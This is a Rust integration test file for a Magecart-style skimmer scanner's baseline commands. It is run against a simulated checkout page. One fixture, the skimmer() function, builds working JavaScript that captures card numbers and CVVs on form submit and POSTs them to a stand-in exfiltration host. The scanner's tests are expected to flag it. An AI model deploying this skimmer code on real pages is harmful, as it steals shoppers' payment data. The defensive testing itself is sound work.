//! The baseline commands end to end (issue 4), against a shop served on 127.0.0.1 and reached
//! by name with `--resolve`: create → rescan with fresh per-request tokens (exit 0, nothing
//! changed) → a skimmer appended to a first-party script (changed + critical naming the host,
//! exit 1) → a library upgrade (changed, not malicious) → a CSP removed → a new third-party
//! script on the checkout; `update` keeping justifications; a corrupt baseline refused (exit 2,
//! file untouched); SARIF of a baseline scan valid against the official schema.
//!
//! Ignored until the command-line glue (`src/baseline_cmd.rs`, not this branch's file) calls
//! the baseline library; they pass with the glue proposed in the hand-off. Run them with
//! `cargo test --test baseline_cli -- --include-ignored`.

mod common;
use common::*;
use serde_json::Value;
use std::path::Path;

const HOST: &str = "shop.test";
const CDN: &str = "cdn.widgets.test";
const EXFIL: &str = "card-stats.test";

const CHECKOUT_JS: &str = "(function () {
  var form = document.getElementById('payment-form');
  form.addEventListener('submit', function (e) {
    var n = document.getElementById('cc-number').value.replace(/\\s+/g, '');
    if (n.length < 12) { e.preventDefault(); alert('Please check the card number.'); }
  });
})();
";

const LIB_1: &str = "/*! minilib v1.0.0 | MIT */(function(w){'use strict';var L={version:'1.0.0',each:function(a,f){for(var i=0;i<a.length;i++){f(a[i],i)}},qs:function(s){return document.querySelector(s)},on:function(el,ev,fn){el.addEventListener(ev,fn,false)},trim:function(s){return s.replace(/^\\s+|\\s+$/g,'')}};w.L=L})(window);\n";
const LIB_2: &str = "/*! minilib v1.1.0 | MIT */(function(w){'use strict';var L={version:'1.1.0',each:function(a,f){for(var i=0;i<a.length;i++){f(a[i],i)}},qs:function(s){return document.querySelector(s)},on:function(el,ev,fn){el.addEventListener(ev,fn,false)},trim:function(s){return s.replace(/^\\s+|\\s+$/g,'')},debounce:function(fn,ms){var t;return function(){var a=arguments,c=this;clearTimeout(t);t=setTimeout(function(){fn.apply(c,a)},ms)}}};w.L=L})(window);\n";

fn skimmer() -> String {
    format!(
        "{CHECKOUT_JS};(function(){{var f=document.getElementById('payment-form');f.addEventListener('submit',function(){{var d=document.getElementById('cc-number').value+'|'+document.getElementById('cc-cvv').value;var x=new XMLHttpRequest();x.open('POST','https://{EXFIL}/c',true);x.send(btoa(d));}});}})();\n"
    )
}

/// The checkout as one response renders it: a fresh form key, quote id, timestamp and CSP
/// nonce every time (`n` picks the tokens).
fn checkout_html(n: u32, extra_script: &str) -> String {
    let form_key = format!(
        "{:016x}",
        0x9e37_79b9_7f4a_7c15u64.wrapping_mul(u64::from(n) + 1)
    );
    format!(
        r#"<!doctype html><html><head><meta charset="utf-8"><title>Checkout</title>
<script src="/static/lib.min.js"></script>
<script src="/static/checkout.js"></script>{extra_script}
<script>
  var FORM_KEY = '{form_key}';
  window.checkoutConfig = {{"formKey":"{form_key}","quoteId":"{}","quoteData":{{"entity_id":"{}","created_at":"2026-11-{:02} 10:00:01"}}}};
</script>
</head><body>
<form id="payment-form" action="/checkout/place-order" method="post">
  <input id="cc-number" name="payment[cc_number]" autocomplete="cc-number">
  <input id="cc-exp" name="payment[cc_exp]" autocomplete="cc-exp">
  <input id="cc-cvv" name="payment[cc_cid]" autocomplete="cc-csc">
  <input type="hidden" name="form_key" value="{form_key}">
  <button type="submit">Place order</button>
</form>
</body></html>"#,
        form_key.to_uppercase(),
        1000 + n * 7,
        n + 1,
    )
}

fn csp(n: u32) -> String {
    format!(
        "default-src 'self'; script-src 'self' 'nonce-r{n}x{n}'; connect-src 'self'; form-action 'self'"
    )
}

struct Shop {
    server: Server,
}

impl Shop {
    fn new() -> Shop {
        let server = serve(vec![
            ("/static/lib.min.js", js(LIB_1)),
            ("/static/checkout.js", js(CHECKOUT_JS)),
            ("/widget.js", js("window.widget = 1;\n")),
        ]);
        let shop = Shop { server };
        shop.render(0, true, "");
        shop
    }

    /// Serve the checkout as response number `n` renders it.
    fn render(&self, n: u32, with_csp: bool, extra: &str) {
        let mut route = html(&checkout_html(n, extra));
        if with_csp {
            route = with_headers(route, &[("content-security-policy", &csp(n))]);
        }
        self.server.set("/checkout/", route);
    }

    fn checkout(&self) -> String {
        self.server.url(HOST, "/checkout/")
    }

    fn net_args(&self) -> Vec<String> {
        vec![
            "--resolve".into(),
            self.server.resolve(HOST),
            "--resolve".into(),
            self.server.resolve(CDN),
            "--depth".into(),
            "0".into(),
        ]
    }

    fn create(&self, out: &Path) {
        let o = skimscan()
            .args(["baseline", "create", "--out"])
            .arg(out)
            .args(self.net_args())
            .arg(self.checkout())
            .output()
            .expect("run");
        assert_eq!(
            o.status.code(),
            Some(0),
            "create: {}",
            String::from_utf8_lossy(&o.stderr)
        );
    }

    fn scan(&self, baseline: &Path) -> (i32, Value) {
        let mut args: Vec<String> = vec!["--baseline".into(), baseline.display().to_string()];
        args.extend(self.net_args());
        args.push(self.checkout());
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let (code, report, _) = scan_json(&args);
        (code, report)
    }
}

fn findings<'a>(report: &'a Value, rule: &str) -> Vec<&'a Value> {
    report["findings"]
        .as_array()
        .map(|a| a.iter().filter(|f| f["rule"] == rule).collect())
        .unwrap_or_default()
}

fn status_of(report: &Value, url_end: &str) -> Value {
    report["scripts"]
        .as_array()
        .and_then(|a| {
            a.iter()
                .find(|s| s["url"].as_str().is_some_and(|u| u.ends_with(url_end)))
        })
        .map(|s| s["baseline"].clone())
        .unwrap_or(Value::Null)
}

#[test]
fn create_then_rescan_with_fresh_tokens_reports_nothing() {
    let shop = Shop::new();
    let dir = tempfile::tempdir().unwrap();
    let b = dir.path().join("shop.json");
    shop.create(&b);
    let text = std::fs::read_to_string(&b).unwrap();
    assert!(text.ends_with("}\n"));
    assert!(
        dir.path().join("shop.json.d").is_dir(),
        "old-code store written"
    );

    shop.render(1, true, "");
    let (code, report) = shop.scan(&b);
    assert_eq!(code, 0, "{report:#}");
    assert!(
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .all(|f| !f["rule"].as_str().unwrap_or("").starts_with("baseline-")),
        "{report:#}"
    );
    assert_eq!(report["removed"], Value::Array(vec![]));
    for s in report["scripts"].as_array().unwrap() {
        assert_eq!(s["baseline"], "unchanged", "{s:#}");
    }
}

#[test]
fn a_skimmer_appended_to_a_first_party_script_is_changed_and_critical() {
    let shop = Shop::new();
    let dir = tempfile::tempdir().unwrap();
    let b = dir.path().join("shop.json");
    shop.create(&b);
    shop.render(2, true, "");
    shop.server.set("/static/checkout.js", js(&skimmer()));
    let (code, report) = shop.scan(&b);
    assert_eq!(code, 1, "{report:#}");
    assert_eq!(status_of(&report, "/static/checkout.js"), "changed");
    let changed = findings(&report, "baseline-changed-script");
    assert_eq!(changed.len(), 1, "{report:#}");
    assert_eq!(changed[0]["severity"], "high");
    assert!(
        changed[0]["diff"].as_str().unwrap_or("").contains(EXFIL),
        "{:#}",
        changed[0]
    );
    let critical: Vec<&Value> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] == "critical")
        .collect();
    assert!(
        critical.iter().any(|f| f["hosts"]
            .as_array()
            .is_some_and(|h| h.iter().any(|h| h == EXFIL))),
        "the engine's critical finding names {EXFIL}: {report:#}"
    );
    assert_eq!(report["verdict"], "malicious");
}

#[test]
fn a_library_upgrade_is_a_change_but_not_malicious() {
    let shop = Shop::new();
    let dir = tempfile::tempdir().unwrap();
    let b = dir.path().join("shop.json");
    shop.create(&b);
    shop.server.set("/static/lib.min.js", js(LIB_2));
    shop.render(3, true, "");
    let (code, report) = shop.scan(&b);
    // The upgrade reads nothing new and sends nowhere new: a change to review (medium), not
    // an alarm at the default --fail-on high.
    assert_eq!(
        code, 0,
        "a same-behaviour upgrade does not fail the gate: {report:#}"
    );
    assert_eq!(status_of(&report, "/static/lib.min.js"), "changed");
    let changed = findings(&report, "baseline-changed-script");
    assert_eq!(changed.len(), 1);
    assert_eq!(changed[0]["severity"], "medium", "{:#}", changed[0]);
    assert!(changed[0]["diff"].as_str().unwrap_or("").contains("+"));
    assert_eq!(report["verdict"], "suspicious", "{report:#}");
}

#[test]
fn a_removed_csp_and_a_new_third_party_script_are_reported() {
    let shop = Shop::new();
    let dir = tempfile::tempdir().unwrap();
    let b = dir.path().join("shop.json");
    shop.create(&b);
    let port = shop.server.port();
    shop.render(
        4,
        false,
        &format!("\n<script src=\"http://{CDN}:{port}/widget.js\"></script>"),
    );
    let (code, report) = shop.scan(&b);
    assert_eq!(code, 1, "{report:#}");
    let weak = findings(&report, "baseline-csp-weakened");
    assert_eq!(weak.len(), 1, "{report:#}");
    assert_eq!(weak[0]["severity"], "high");
    let new = findings(&report, "baseline-new-script");
    assert_eq!(new.len(), 1, "{report:#}");
    assert_eq!(new[0]["severity"], "high");
    assert_eq!(status_of(&report, "/widget.js"), "new");
}

#[test]
fn update_keeps_justifications_and_prints_what_changed() {
    let shop = Shop::new();
    let dir = tempfile::tempdir().unwrap();
    let b = dir.path().join("shop.json");
    shop.create(&b);
    // A reviewer fills in the inventory.
    let mut doc: Value = serde_json::from_str(&std::fs::read_to_string(&b).unwrap()).unwrap();
    for page in doc["pages"].as_object_mut().unwrap().values_mut() {
        for s in page["scripts"].as_array_mut().unwrap() {
            s["justification"] = Value::from("reviewed in PR #42");
            s["owner"] = Value::from("payments@shop.test");
        }
    }
    std::fs::write(&b, serde_json::to_string_pretty(&doc).unwrap() + "\n").unwrap();

    shop.server.set("/static/lib.min.js", js(LIB_2));
    shop.render(5, true, "");
    let mut cmd = skimscan();
    cmd.args(["baseline", "update"])
        .arg(&b)
        .args(shop.net_args());
    let out = cmd.output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        stdout.contains("~ changed script") && stdout.contains("/static/lib.min.js"),
        "{stdout}"
    );
    assert_eq!(
        stdout.lines().count(),
        1,
        "fresh tokens are not changes: {stdout}"
    );

    let doc: Value = serde_json::from_str(&std::fs::read_to_string(&b).unwrap()).unwrap();
    for page in doc["pages"].as_object().unwrap().values() {
        for s in page["scripts"].as_array().unwrap() {
            assert_eq!(s["justification"], "reviewed in PR #42", "{s:#}");
            assert_eq!(s["owner"], "payments@shop.test");
        }
    }
    // The updated baseline accepts the upgrade.
    shop.render(6, true, "");
    assert_eq!(shop.scan(&b).0, 0);
}

#[test]
fn a_corrupt_baseline_is_refused_and_left_untouched() {
    let shop = Shop::new();
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in [
        (
            "corrupt.json",
            "{\"schema_version\": 1, \"site\": \"shop.test\", \"pages\": {\n",
        ),
        ("future.json", "{\"schema_version\": 7}\n"),
    ] {
        let b = dir.path().join(name);
        std::fs::write(&b, text).unwrap();
        let out = skimscan()
            .args(["baseline", "update"])
            .arg(&b)
            .args(shop.net_args())
            .arg(shop.checkout())
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{name}");
        assert!(String::from_utf8_lossy(&out.stderr).contains(name));
        let out = skimscan()
            .args(["scan", "--baseline"])
            .arg(&b)
            .arg(shop.checkout())
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{name}");
        assert_eq!(
            std::fs::read_to_string(&b).unwrap(),
            text,
            "{name} untouched"
        );
    }
}

#[test]
fn sarif_of_a_baseline_scan_validates() {
    let shop = Shop::new();
    let dir = tempfile::tempdir().unwrap();
    let b = dir.path().join("shop.json");
    shop.create(&b);
    shop.server.set("/static/checkout.js", js(&skimmer()));
    shop.render(7, false, "");
    let out = skimscan()
        .args(["scan", "--format", "sarif", "--baseline"])
        .arg(&b)
        .args(shop.net_args())
        .arg(shop.checkout())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let log: Value = serde_json::from_slice(&out.stdout).expect("SARIF is JSON");
    let schema: Value = serde_json::from_str(
        &std::fs::read_to_string(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/sarif-schema-2.1.0.json"
        ))
        .unwrap(),
    )
    .unwrap();
    let v = jsonschema::validator_for(&schema).unwrap();
    let errors: Vec<String> = v.iter_errors(&log).map(|e| e.to_string()).collect();
    assert!(errors.is_empty(), "{errors:#?}");
    let results = log["runs"][0]["results"].as_array().unwrap();
    assert!(
        results
            .iter()
            .any(|r| r["ruleId"] == "baseline-changed-script")
    );
    assert!(
        results
            .iter()
            .any(|r| r["ruleId"] == "baseline-csp-weakened")
    );
}
